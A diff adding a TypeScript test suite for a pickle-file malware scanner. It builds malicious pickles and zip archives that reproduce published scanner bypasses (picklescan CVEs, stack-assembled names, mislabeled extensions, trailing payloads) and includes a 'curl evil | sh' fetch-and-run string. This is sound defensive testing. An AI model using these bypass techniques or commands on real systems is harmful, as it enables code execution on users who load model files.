@@ -1,0 +1,69 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import { atOrAbove } from '../../src/scan/index.js';
+import { withLocalName, zipArchive } from './helpers/archives.js';
+import { P, scanBytes } from './helpers/scanBytes.js';
+
+/** A call `module.name(arg)` in protocol 4 with STACK_GLOBAL. */
+const call = (module: string, name: string, ...args: string[]): Buffer =>
+  P.cat(P.proto(4), P.su(module), P.su(name), P.op(0x93, 0x28 /* MARK */), ...args.map((a) => P.su(a)), P.op('t', 'R', '.'));
+
+async function worst(bytes: Buffer, name = 'x.bin'): Promise<string[]> {
+  const r = await scanBytes(bytes, name);
+  return r.findings.filter((f) => atOrAbove(f.severity, 'high')).map((f) => `${f.severity} ${f.rule}`);
+}
+
+describe('published scanner bypasses are detected (high or critical)', () => {
+  it('pip.main (picklescan CVE-2025-1716)', async () => {
+    assert.deepEqual(await worst(call('pip', 'main', 'install', 'evil-package')), ['critical pickle/dangerous-global']);
+  });
+  it('standard-library gadgets missing from denylists: bdb, pydoc, _io, cProfile, timeit, trace, idlelib', async () => {
+    for (const [m, n] of [['bdb', 'Bdb'], ['pydoc', 'pipepager'], ['_io', 'FileIO'], ['cProfile', 'runctx'], ['timeit', 'repeat'], ['trace', 'Trace'], ['idlelib.run', 'exec'], ['lib2to3.pgen2.grammar', 'Grammar'], ['ensurepip', '_run_pip'], ['zipimport', 'zipimporter']]) {
+      const w = await worst(call(m!, n!, 'x'));
+      assert.ok(w.length > 0, `${m}.${n} not flagged`);
+    }
+  });
+  it('third-party gadgets nobody listed: unknown function called with a string', async () => {
+    assert.deepEqual(await worst(call('asdf.helpers', 'do_stuff', 'curl evil | sh')), ['high pickle/unknown-call-with-string']);
+    assert.deepEqual(await worst(call('torch.utils.cpp_extension', 'load_inline', 'x', 'int main(){}')), ['critical pickle/dangerous-global']);
+    assert.deepEqual(await worst(call('torch', 'load', '/tmp/other.pt')), ['critical pickle/dangerous-global']);
+  });
+  it('names assembled on the stack with DUP/MEMOIZE/GET and in frames', async () => {
+    const frameLen = Buffer.alloc(8);
+    const body = P.cat(P.su('subprocess'), P.op(0x94), P.op(0x32 /* DUP */, '0'), P.su('run'), P.op(0x94, 'h', 1, 'h', 0, 'h', 1, 0x93), P.su('id'), P.op(0x85, 'R', '.'));
+    frameLen.writeBigUInt64LE(BigInt(body.length));
+    assert.deepEqual(await worst(P.cat(P.proto(5), P.op(0x95), frameLen, body)), ['critical pickle/dangerous-global']);
+  });
+  it('zip member whose local header names another file (picklescan CVE-2025-1944)', async () => {
+    const evil = call('os', 'system', 'id');
+    const zip = withLocalName(zipArchive([{ name: 'archive/data.pkl', data: evil }]), 'archive/xxxx.pkl');
+    assert.deepEqual((await worst(zip)).sort(), ['critical pickle/dangerous-global', 'high archive/header-mismatch']);
+  });
+  it('zip member flagged encrypted but stored in the clear (picklescan CVE-2025-1945)', async () => {
+    const zip = zipArchive([{ name: 'archive/data.pkl', data: call('os', 'system', 'id'), flags: 0x1 }]);
+    assert.deepEqual((await worst(zip)).sort(), ['critical pickle/dangerous-global', 'high archive/flag-tampering']);
+  });
+  it('payload after a first, harmless pickle (scanners that stop at the first STOP)', async () => {
+    const benign = P.cat(P.proto(2), P.op('}', '.'));
+    assert.ok((await worst(P.cat(benign, call('os', 'system', 'id')))).includes('critical pickle/dangerous-global'));
+  });
+  it('pickle with a model extension it is not (content decides, not the name)', async () => {
+    for (const name of ['model.safetensors', 'model.onnx', 'weights.gguf', 'x.h5', 'README.md']) {
+      assert.deepEqual(await worst(call('os', 'system', 'id'), name), ['critical pickle/dangerous-global'], name);
+    }
+  });
+});
+
+describe('no crying wolf on ordinary third-party objects', () => {
+  it('keeps unknown classes and Cython reconstructors at medium', async () => {
+    const cls = P.cat(P.proto(4), P.su('mypkg.colors'), P.su('Color'), P.op(0x93), P.su('red'), P.op(0x85, 'R', '.'));
+    const pyx = P.cat(P.proto(4), P.su('sklearn.tree._tree'), P.su('__pyx_unpickle_Tree'), P.op(0x93), P.su('sklearn.tree._tree'), P.su('Tree'), P.op(0x93, 'J', 1, 2, 3, 4, 0x4e, 0x87, 'R', '.'));
+    for (const b of [cls, pyx]) {
+      const r = await scanBytes(b);
+      assert.ok(r.findings.length > 0 && r.findings.every((f) => f.severity === 'medium'), JSON.stringify(r.findings));
+    }
+  });
+  it('allows compiled regexes', async () => {
+    assert.deepEqual((await scanBytes(P.cat(P.proto(2), P.global('re', '_compile'), P.binunicode('\\w+'), P.op('K', 32, 0x86, 'R', '.')))).findings, []);
+  });
+});
